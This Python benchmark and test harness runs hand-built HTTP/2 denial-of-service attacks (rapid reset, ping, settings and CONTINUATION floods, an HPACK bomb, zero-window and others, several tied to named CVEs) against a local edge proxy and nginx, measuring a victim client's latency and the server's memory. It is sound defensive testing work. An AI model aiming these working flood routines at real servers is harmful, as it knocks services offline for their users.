"""HTTP/2 attacks against the HTTPS front, with a victim client beside them; nginx for comparison.

Each attack opens one TLS connection (ALPN h2) and writes hand-built frames in a loop
bounded by a frame count and a deadline; a *victim* client on its own connection fetches
a small cached object every 50 ms meanwhile and records how long each fetch waited.
Reported per attack and target: the victim's max and p99 wait (and any failed fetch),
the attack connection's fate (GOAWAY and its error code, seconds until GOAWAY and until
the connection closed, frames written) and the node's RSS growth (peak during the
attack minus before; the whole process tree, nginx's workers too). Run:

    python -m benchmarks.h2_attacks [--targets edge,nginx] [--attacks rapid_reset,ping_flood,...]
                                    [--scale 1.0] [--edge-root DIR] [--json FILE]

``--edge-root DIR`` runs the edge from another checkout (e.g. a ``git worktree`` of an
older commit: the "before" column). ``--scale`` multiplies every attack's frame count.
Needs Debian's ``nginx`` for the nginx rows (skipped when missing). Everything is on
127.0.0.1; every process started here is stopped by its PID.

The attack code (:func:`run_attack`, :data:`ATTACKS`) is also what ``tests/fronts/
test_h2_attacks.py`` runs against an in-process edge, with smaller counts.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import functools
import json
import os
import shutil
import socket
import ssl
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(10)
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}
SMALL = "/1k.bin"
"""The victim's object (and the rapid-reset target): 1 KiB, cached before the attacks."""
LARGE = "/16m.bin"
"""The object a non-reading client asks for to fill the node's send path."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_literal(name: bytes, value: bytes, index: bool = False) -> bytes:
    """A literal field with a literal name, no Huffman (with incremental indexing if asked)."""
    return (
        (b"\x40" if index else b"\x00") + _hpack_int(len(name), 7) + name + _hpack_int(len(value), 7) + value
    )


def _hpack_int(value: int, prefix: int) -> bytes:
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes((value,))
    out = [limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def request_block(authority: bytes, path: bytes, method: bytes = b"GET") -> bytes:
    """A request's field block: static-table indexed where possible, no dynamic table."""
    m = {b"GET": b"\x82", b"POST": b"\x83"}[method]
    return (
        m
        + b"\x87"
        + b"\x01"
        + _hpack_int(len(authority), 7)
        + authority
        + b"\x04"
        + _hpack_int(len(path), 7)
        + path
    )


# -- the attacks: each yields the bytes to write, in bounded chunks ---------------------------


@dataclass
class Plan:
    """What one attack writes, and how it behaves as a client."""

    chunks: Iterator[bytes]
    reads: bool = True
    """Reads (and discards) what the node sends while attacking; False: reads only at the end."""
    rcvbuf: int | None = None
    """SO_RCVBUF of the attack socket (small: the node's replies back up quickly)."""
    before: list[bytes] = field(default_factory=list)
    """Written first, then a pause of ``settle`` seconds (e.g. a request that fills the pipe)."""
    settle: float = 0.0


def _batched(gen: Iterator[bytes], per: int) -> Iterator[bytes]:
    buf: list[bytes] = []
    for item in gen:
        buf.append(item)
        if len(buf) >= per:
            yield b"".join(buf)
            buf.clear()
    if buf:
        yield b"".join(buf)


def rapid_reset(n: int, authority: bytes) -> Plan:
    """CVE-2023-44487: HEADERS (a cached object) then RST_STREAM(CANCEL), ``n`` streams."""
    block = request_block(authority, SMALL.encode())
    rst = struct.pack(">I", 0x8)
    pairs = (
        frame(HEADERS, END_STREAM | END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid, rst)
        for sid in range(1, 2 * n, 2)
    )
    return Plan(_batched(pairs, 100))


def rapid_reset_miss(n: int, authority: bytes) -> Plan:
    """Rapid reset on objects not in the cache (a distinct query each): every stream a fetch."""
    rst = struct.pack(">I", 0x8)
    pairs = (
        frame(HEADERS, END_STREAM | END_HEADERS, sid, request_block(authority, b"/1k.bin?r=%d" % sid))
        + frame(RST_STREAM, 0, sid, rst)
        for sid in range(1, 2 * n, 2)
    )
    return Plan(_batched(pairs, 100))


def ping_flood(n: int, authority: bytes) -> Plan:
    """CVE-2019-9512: PINGs from a client that does not read the acknowledgements."""
    ping = frame(PING, 0, 0, b"12345678")
    return Plan((ping * 500 for _ in range(max(1, n // 500))), reads=False, rcvbuf=16384)


def ping_flood_reading(n: int, authority: bytes) -> Plan:
    """PINGs from a client that reads: the control-frame budget, not the owed replies."""
    ping = frame(PING, 0, 0, b"12345678")
    return Plan(ping * 500 for _ in range(max(1, n // 500)))


def settings_flood(n: int, authority: bytes) -> Plan:
    """CVE-2019-9515: SETTINGS frames (each one owes an acknowledgement and an update)."""
    one = settings((0x4, 65535))
    return Plan(one * 500 for _ in range(max(1, n // 500)))


def empty_data(n: int, authority: bytes) -> Plan:
    """CVE-2019-9518: a POST, then DATA frames with no payload and no END_STREAM."""
    head = frame(HEADERS, END_HEADERS, 1, request_block(authority, b"/upload", b"POST"))
    empty = frame(DATA, 0, 1)
    return Plan(itertools_chain([head], (empty * 500 for _ in range(max(1, n // 500)))))


def window_update_flood(n: int, authority: bytes) -> Plan:
    """WINDOW_UPDATE frames (increment 1 on the connection) with nothing being sent."""
    wu = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return Plan(wu * 500 for _ in range(max(1, n // 500)))


def priority_flood(n: int, authority: bytes) -> Plan:
    """CVE-2019-9513 style: PRIORITY frames for idle streams."""
    prio = (frame(PRIORITY, 0, sid, struct.pack(">IB", 0, 15)) for sid in range(1, 2 * n, 2))
    return Plan(_batched(prio, 500))


def continuation_flood(n: int, authority: bytes) -> Plan:
    """CVE-2024-27316: a header block that never ends (CONTINUATION without END_HEADERS)."""
    head = frame(HEADERS, END_STREAM, 1, request_block(authority, SMALL.encode()))
    filler = frame(CONTINUATION, 0, 1, hpack_literal(b"x-pad", b"a" * 1000))
    return Plan(itertools_chain([head], (filler * 16 for _ in range(max(1, n // 16)))))


def hpack_bomb(n: int, authority: bytes) -> Plan:
    """A 4 KiB field put in the dynamic table, then referenced by one byte, ``n`` times.

    Sent before the client acknowledges the node's SETTINGS (this client never reads).
    """
    block = request_block(authority, SMALL.encode()) + hpack_literal(b"x-bomb", b"b" * 4000, index=True)
    block += b"\xbe" * min(n, 16000)  # index 62: the newest dynamic-table entry
    frames = [frame(HEADERS, END_STREAM | (END_HEADERS if len(block) <= 16384 else 0), 1, block[:16384])]
    rest = block[16384:]
    while rest:
        part, rest = rest[:16384], rest[16384:]
        frames.append(frame(CONTINUATION, 0 if rest else END_HEADERS, 1, part))
    return Plan(iter(frames), reads=False)


def zero_window(n: int, authority: bytes) -> Plan:
    """Initial window 0, then ``n`` requests for a cached object: every response waits."""
    block = request_block(authority, SMALL.encode())
    reqs = (frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in range(1, 2 * n, 2))
    return Plan(itertools_chain([settings((0x4, 0))], _batched(reqs, 50)))


def too_many_streams(n: int, authority: bytes) -> Plan:
    """``n`` concurrent streams, each a POST whose body never comes."""
    reqs = (
        frame(HEADERS, END_HEADERS, sid, request_block(authority, b"/upload", b"POST"))
        for sid in range(1, 2 * n, 2)
    )
    return Plan(_batched(reqs, 100))


def slow_read_pings(n: int, authority: bytes) -> Plan:
    """A client that asks for 16 MiB with a large window, does not read, then sends PINGs:
    the acknowledgements pile up behind the response (the owed-replies budget)."""
    open_window = settings((0x4, 0x7FFFFFFF)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000))
    get = frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(authority, LARGE.encode()))
    ping = frame(PING, 0, 0, b"abcdefgh")
    return Plan(
        (ping * 10 for _ in range(max(1, n // 10))),
        reads=False,
        rcvbuf=4096,
        before=[open_window + get],
        settle=1.0,
    )


def request_burst(n: int, authority: bytes) -> Plan:
    """Not an attack by itself: ``n`` requests for a cached object written at once, responses
    read. A connection pipelining this much must not hold the event loop from the others."""
    open_window = settings((0x4, 0x7FFFFFFF)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000))
    block = request_block(authority, SMALL.encode())
    reqs = (frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in range(1, 2 * n, 2))
    return Plan(_batched(reqs, 2000), before=[open_window])


def itertools_chain(*parts: object) -> Iterator[bytes]:
    for part in parts:
        yield from part  # type: ignore[misc]


ATTACKS: dict[str, tuple[Callable[[int, bytes], Plan], int]] = {
    "rapid_reset": (rapid_reset, 20_000),
    "rapid_reset_miss": (rapid_reset_miss, 5_000),
    "ping_flood": (ping_flood, 150_000),
    "ping_flood_reading": (ping_flood_reading, 150_000),
    "settings_flood": (settings_flood, 100_000),
    "empty_data": (empty_data, 100_000),
    "window_update_flood": (window_update_flood, 100_000),
    "priority_flood": (priority_flood, 100_000),
    "continuation_flood": (continuation_flood, 10_000),
    "hpack_bomb": (hpack_bomb, 16_000),
    "zero_window": (zero_window, 1_000),
    "too_many_streams": (too_many_streams, 5_000),
    "slow_read_pings": (slow_read_pings, 2_000),
    "request_burst": (request_burst, 20_000),
}
"""name -> (plan builder, default count of frames or streams)."""


# -- running one attack -------------------------------------------------------------------------


@dataclass
class Fate:
    """What became of the attack connection."""

    goaway: int | None = None
    goaway_after: float | None = None
    closed_after: float | None = None
    written: int = 0
    """Bytes of attack frames the node accepted."""
    note: str = ""

    @property
    def goaway_name(self) -> str:
        return "-" if self.goaway is None else ERROR_NAMES.get(self.goaway, hex(self.goaway))


class _FrameReader:
    """Parses the node's frames off the attack connection; notes GOAWAY and the close."""

    def __init__(self, fate: Fate, started: float) -> None:
        self.fate = fate
        self.started = started
        self.buf = b""

    def feed(self, data: bytes) -> None:
        buf = self.buf + data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == GOAWAY and self.fate.goaway is None and length >= 8:
                self.fate.goaway = int.from_bytes(buf[13:17], "big")
                self.fate.goaway_after = time.monotonic() - self.started
            buf = buf[9 + length :]
        self.buf = buf

    def closed(self) -> None:
        if self.fate.closed_after is None:
            self.fate.closed_after = time.monotonic() - self.started


async def _open(host: str, port: int, ctx: ssl.SSLContext, rcvbuf: int | None):  # type: ignore[no-untyped-def]
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # no 40 ms Nagle/delayed-ACK stalls
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    return await asyncio.wait_for(asyncio.open_connection(sock=sock, ssl=ctx, server_hostname="localhost"), 5)


async def attack(
    name: str,
    host: str,
    port: int,
    ctx: ssl.SSLContext,
    count: int | None = None,
    duration: float = 6.0,
    linger: float = 3.0,
) -> Fate:
    """Run one attack: write its frames until done, closed or ``duration`` s; then wait up to
    ``linger`` s for the node to close the connection (reading what it sends)."""
    build, default = ATTACKS[name]
    authority = b"localhost:%d" % port
    plan = build(count or default, authority)
    reader, writer = await _open(host, port, ctx, plan.rcvbuf)
    fate = Fate()
    started = time.monotonic()
    frames = _FrameReader(fate, started)

    async def read_all() -> None:
        try:
            while data := await reader.read(65536):
                frames.feed(data)
        except (OSError, ssl.SSLError):
            pass
        frames.closed()

    reading: asyncio.Task[None] | None = None
    deadline = started + duration
    try:
        writer.write(PREFACE + settings())
        for chunk in plan.before:
            writer.write(chunk)
        if plan.reads:
            reading = asyncio.create_task(read_all())
        await asyncio.wait_for(writer.drain(), 5)
        if plan.settle:
            await asyncio.sleep(plan.settle)
        for chunk in plan.chunks:
            left = deadline - time.monotonic()
            if left <= 0 or (reading is not None and reading.done()):
                break
            writer.write(chunk)
            await asyncio.wait_for(writer.drain(), left)
            fate.written += len(chunk)
    except (TimeoutError, OSError, ssl.SSLError) as exc:
        fate.note = f"writing stopped: {type(exc).__name__}"
        if not isinstance(exc, TimeoutError) and reading is None:
            frames.closed()
    if reading is None:
        reading = asyncio.create_task(read_all())
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(asyncio.shield(reading), linger)
    if not reading.done():
        fate.note = (fate.note + "; " if fate.note else "") + "still open"
        reading.cancel()
    writer.transport.abort()
    return fate


# -- the victim -----------------------------------------------------------------------------


class Victim:
    """A client on its own connection fetching ``path`` every ``every`` s, in a thread."""

    def __init__(
        self, host: str, port: int, ctx: ssl.SSLContext, path: str = SMALL, every: float = 0.05
    ) -> None:
        self.host, self.port, self.ctx, self.path, self.every = host, port, ctx, path, every
        self.waits: list[float] = []
        self.failures: list[str] = []
        self.stop = threading.Event()
        self.ready = threading.Event()
        self.thread = threading.Thread(target=self.main, daemon=True)

    def main(self) -> None:
        try:
            asyncio.run(self.run())
        except Exception as exc:  # reported as the victim's failure (e.g. no TLS handshake)
            self.failures.append(f"{type(exc).__name__}: {exc}")
            self.ready.set()

    def __enter__(self) -> Victim:
        self.thread.start()
        self.ready.wait(10)
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join(15)

    async def run(self) -> None:
        import h2.config
        import h2.connection
        import h2.events

        reader, writer = await _open(self.host, self.port, self.ctx, None)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        authority = b"localhost:%d" % self.port
        fields = [
            (b":method", b"GET"),
            (b":scheme", b"https"),
            (b":authority", authority),
            (b":path", self.path.encode()),
        ]

        async def fetch() -> None:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, fields, end_stream=True)
            writer.write(conn.data_to_send())
            status = None
            while True:
                data = await reader.read(65536)
                if not data:
                    raise ConnectionError("closed")
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived) and event.stream_id == sid:
                        status = dict(event.headers).get(b":status")
                    elif isinstance(event, h2.events.DataReceived):
                        conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                    elif isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                        writer.write(conn.data_to_send())
                        if status != b"200":
                            raise ConnectionError(f"status {status!r}")
                        return
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        raise ConnectionError(f"GOAWAY {event.error_code}")
                writer.write(conn.data_to_send())

        try:
            await asyncio.wait_for(fetch(), 5)  # warm: not counted
            self.ready.set()
            while not self.stop.is_set():
                t0 = time.monotonic()
                try:
                    await asyncio.wait_for(fetch(), 5)
                except (TimeoutError, ConnectionError, OSError) as exc:
                    self.failures.append(f"{type(exc).__name__}: {exc}")
                    break
                self.waits.append(time.monotonic() - t0)
                await asyncio.sleep(max(0.0, self.every - (time.monotonic() - t0)))
        finally:
            self.ready.set()
            writer.transport.abort()

    @property
    def max_wait(self) -> float:
        return max(self.waits, default=float("nan"))

    @property
    def p99(self) -> float:
        if len(self.waits) < 2:
            return self.max_wait
        return statistics.quantiles(self.waits, n=100, method="inclusive")[98]


class VictimProcess(Victim):
    """The same victim in a process of its own: the attack's client code does not share a GIL
    with it, so its waits are the node's."""

    def __init__(self, host: str, port: int, ca: str, path: str = SMALL) -> None:
        super().__init__(host, port, client_context(ca), path)
        self.ca = ca
        self.proc: subprocess.Popen[str] | None = None

    def __enter__(self) -> VictimProcess:
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "benchmarks.h2_attacks", "--victim", f"{self.port}", "--ca", self.ca],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT,
        )  # fmt: skip
        assert self.proc.stdout is not None
        self.proc.stdout.readline()  # "ready"
        return self

    def __exit__(self, *exc: object) -> None:
        assert self.proc is not None
        try:
            out, _ = self.proc.communicate("", timeout=15)
            got = json.loads(out.strip().splitlines()[-1])
            self.waits, self.failures = got["waits"], got["failures"]
        except (subprocess.TimeoutExpired, ValueError, IndexError) as exc:
            self.proc.kill()
            self.proc.wait()
            self.failures = [f"victim process: {exc!r}"]


def victim_main(port: int, ca: str) -> int:
    """The child of :class:`VictimProcess`: fetch until stdin closes, then print the waits."""
    with Victim("127.0.0.1", port, client_context(ca)) as victim:
        print("ready", flush=True)
        sys.stdin.read()
    print(json.dumps({"waits": victim.waits, "failures": victim.failures}), flush=True)
    return 0


@dataclass
class Result:
    target: str
    attack: str
    goaway: str
    goaway_after: float | None
    closed_after: float | None
    written_kib: float
    victim_max_ms: float
    victim_p99_ms: float
    victim_fetches: int
    victim_failures: list[str]
    rss_delta_mib: float | None
    note: str


def run_attack(
    name: str,
    host: str,
    port: int,
    ctx: ssl.SSLContext,
    count: int | None = None,
    rss: Callable[[], int] | None = None,
    duration: float = 6.0,
    linger: float = 3.0,
    target: str = "edge",
    ca: str | None = None,
) -> Result:
    """One attack with a victim beside it (threads: callable from a test's event loop via
    ``asyncio.to_thread``, the node keeps its own loop). With ``ca``, the victim runs in a
    process of its own, trusting that CA."""
    peak = [0]
    base = rss() if rss else 0
    sampling = threading.Event()

    def sample() -> None:
        while not sampling.is_set():
            peak[0] = max(peak[0], rss())  # type: ignore[misc]
            sampling.wait(0.05)

    sampler = threading.Thread(target=sample, daemon=True) if rss else None
    with VictimProcess(host, port, ca) if ca else Victim(host, port, ctx) as victim:
        time.sleep(0.3)
        if sampler:
            sampler.start()
        fate = asyncio.run(attack(name, host, port, ctx, count, duration, linger))
        time.sleep(0.2)
    sampling.set()
    if sampler:
        sampler.join(2)
    return Result(
        target=target,
        attack=name,
        goaway=fate.goaway_name,
        goaway_after=fate.goaway_after,
        closed_after=fate.closed_after,
        written_kib=fate.written / 1024,
        victim_max_ms=victim.max_wait * 1000,
        victim_p99_ms=victim.p99 * 1000,
        victim_fetches=len(victim.waits),
        victim_failures=victim.failures,
        rss_delta_mib=(peak[0] - base) / 2**20 if rss else None,
        note=fate.note,
    )


def client_context(ca: Path | str | None) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=str(ca)) if ca else ssl._create_unverified_context()
    ctx.set_alpn_protocols(["h2"])
    return ctx


# -- the lab: origin, edge (this checkout or another), nginx --------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _wait_tls(port: int, proc: subprocess.Popen[bytes], timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"process exited with {proc.returncode}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2):
                return
        except OSError:
            time.sleep(0.05)
    raise RuntimeError(f"nothing listening on 127.0.0.1:{port}")


def _tree_rss(pid: int) -> int:
    from benchmarks.run import tree_rss_bytes

    return tree_rss_bytes(pid)


def _warm(port: int, ctx: ssl.SSLContext) -> None:
    """Fetch the small and the large object twice each: both cached before any attack."""
    for path in (SMALL, SMALL, LARGE, LARGE):
        with Victim("127.0.0.1", port, ctx, path=path) as v:
            pass
        if v.failures:
            raise RuntimeError(f"warming {path} failed: {v.failures}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--targets", default="edge,nginx")
    ap.add_argument("--attacks", default=",".join(a for a in ATTACKS if a != "rapid_reset_miss"))
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--duration", type=float, default=6.0, help="seconds an attack writes at most")
    ap.add_argument("--linger", type=float, default=3.0, help="seconds to wait for the node to close after")
    ap.add_argument("--edge-root", default=str(ROOT), help="checkout to run the edge from")
    ap.add_argument("--edge-label", default="edge")
    ap.add_argument("--json", help="write the results here too")
    ap.add_argument("--keep", action="store_true", help="keep the work folder (logs) at the end")
    ap.add_argument("--victim", type=int, help=argparse.SUPPRESS)  # internal: the victim process
    ap.add_argument("--ca", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    if args.victim:
        return victim_main(args.victim, args.ca)
    targets = args.targets.split(",")
    attacks = args.attacks.split(",")
    for name in attacks:
        if name not in ATTACKS:
            ap.error(f"unknown attack {name}: {', '.join(ATTACKS)}")
    nginx = shutil.which("nginx") or ("/usr/sbin/nginx" if Path("/usr/sbin/nginx").exists() else None)
    if "nginx" in targets and nginx is None:
        print("nginx not found: skipping its rows", file=sys.stderr)
        targets.remove("nginx")
    from benchmarks.targets import make_dev_cert, render_nginx

    work = Path(tempfile.mkdtemp(prefix="h2-attacks-"))
    procs: list[subprocess.Popen[bytes]] = []
    results: list[Result] = []
    try:
        site = work / "site"
        site.mkdir()
        (site / "1k.bin").write_bytes(os.urandom(1024))
        (site / "16m.bin").write_bytes(os.urandom(16 * 2**20))
        cert = make_dev_cert(work / "tls")
        ctx = client_context(cert.ca)
        origin_port = _free_port()
        log = open(work / "origin.log", "wb")  # noqa: SIM115
        procs.append(subprocess.Popen(
            [sys.executable, "-m", "origin", "serve", "--root", str(site), "--listen", f"127.0.0.1:{origin_port}"],
            stdout=log, stderr=subprocess.STDOUT, cwd=ROOT,
        ))  # fmt: skip
        from benchmarks.h1_hit import wait_port

        wait_port(origin_port)
        ports: dict[str, tuple[int, subprocess.Popen[bytes]]] = {}
        if "edge" in targets:
            port = _free_port()
            env = {**os.environ, "PYTHONPATH": args.edge_root}
            elog = open(work / "edge.log", "wb")  # noqa: SIM115
            proc = subprocess.Popen(
                [sys.executable, "-m", "edge.cli", "serve", "--upstream", f"http://127.0.0.1:{origin_port}",
                 "--listen", f"127.0.0.1:{_free_port()}", "--tls-listen", f"127.0.0.1:{port}",
                 "--cert", str(cert.cert), "--key", str(cert.key), "--admin-listen", "", "--quic-listen", ""],
                stdout=elog, stderr=subprocess.STDOUT, cwd=args.edge_root, env=env,
            )  # fmt: skip
            procs.append(proc)
            _wait_tls(port, proc)
            ports[args.edge_label] = (port, proc)
        if "nginx" in targets:
            prefix = work / "nginx"
            (prefix / "cache").mkdir(parents=True)
            port = _free_port()
            conf = prefix / "nginx.conf"
            conf.write_text(render_nginx(
                prefix, origin_port=origin_port, h1_port=_free_port(), h2c_port=_free_port(), tls_port=port,
                cert=cert.cert, key=cert.key, workers=1, as_root=os.geteuid() == 0,
            ))  # fmt: skip
            assert nginx is not None
            proc = subprocess.Popen([nginx, "-p", str(prefix), "-c", str(conf)], stderr=subprocess.DEVNULL)
            procs.append(proc)
            _wait_tls(port, proc)
            ports["nginx"] = (port, proc)
        for label, (port, proc) in ports.items():
            _warm(port, ctx)
            for name in attacks:
                count = max(1, int(ATTACKS[name][1] * args.scale))
                result = run_attack(
                    name, "127.0.0.1", port, ctx, count, rss=functools.partial(_tree_rss, proc.pid),
                    duration=args.duration, linger=args.linger, target=label, ca=str(cert.ca),
                )  # fmt: skip
                results.append(result)
                print(_row(result), flush=True)
                if proc.poll() is not None:
                    print(f"{label} exited ({proc.returncode}): stopping its attacks", file=sys.stderr)
                    break
                time.sleep(0.5)
        print()
        print(format_table(results))
        if args.json:
            Path(args.json).write_text(json.dumps([asdict(r) for r in results], indent=2))
    finally:
        for proc in procs:
            proc.terminate()
        for proc in procs:
            try:
                proc.wait(timeout=5)
            except subprocess.TimeoutExpired:
                proc.kill()
        if args.keep:
            print(f"logs kept in {work}", file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)
    return 0


def _secs(value: float | None) -> str:
    return "-" if value is None else f"{value:.2f}"


def _row(r: Result) -> str:
    fail = f" FAILED:{r.victim_failures[0]}" if r.victim_failures else ""
    rss = "-" if r.rss_delta_mib is None else f"{r.rss_delta_mib:+.1f}"
    return (
        f"{r.target:8s} {r.attack:20s} {r.goaway:18s} {_secs(r.goaway_after):>7s} {_secs(r.closed_after):>7s} "
        f"{r.written_kib:9.0f} {r.victim_max_ms:8.1f} {r.victim_p99_ms:8.1f} {r.victim_fetches:5d} {rss:>7s}"
        f"{fail} {r.note}"
    )


def format_table(results: list[Result]) -> str:
    head = (
        f"{'target':8s} {'attack':20s} {'GOAWAY':18s} {'goaway':>7s} {'closed':>7s} "
        f"{'sent KiB':>9s} {'max ms':>8s} {'p99 ms':>8s} {'n':>5s} {'RSS MiB':>7s}"
    )
    return "\n".join([head, "-" * len(head), *(_row(r) for r in results)])


if __name__ == "__main__":
    sys.exit(main())
